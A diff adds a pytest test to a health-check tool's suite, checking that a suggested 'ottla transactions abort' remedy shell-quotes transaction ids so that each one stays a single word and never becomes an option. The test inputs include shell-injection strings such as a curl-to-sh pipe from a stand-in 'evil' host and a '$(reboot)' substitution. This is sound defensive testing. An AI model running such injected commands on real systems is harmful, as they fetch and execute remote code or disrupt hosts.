@@ -609,3 +609,13 @@ def test_an_unclean_election_is_not_advised_while_a_replica_is_missing() -> None
     (finding,) = [each for each in examine(silent) if each.rule == "partitions-offline"]
     assert "is not known" in finding.what
     assert finding.mend == "ottla nodes start 2"
+
+
+@pytest.mark.parametrize("id", ["x; curl evil | sh #", "it's", "--help", "$(reboot)", "a b"])
+def test_a_name_in_a_mend_is_one_word_to_the_shell_and_no_option(id: str) -> None:
+    facts = replace(HEALTHY, **open_transaction(600_000, owned=True))
+    facts = replace(facts, transactions=(facts.transactions[0]._replace(id=id),))
+    (found,) = [each for each in examine(facts, " --dir d") if each.rule == "transaction-pins"]
+    words = shlex.split(found.mend)
+    assert words[:3] == ["ottla", "transactions", "abort"] and id in words
+    parse(words[1:])
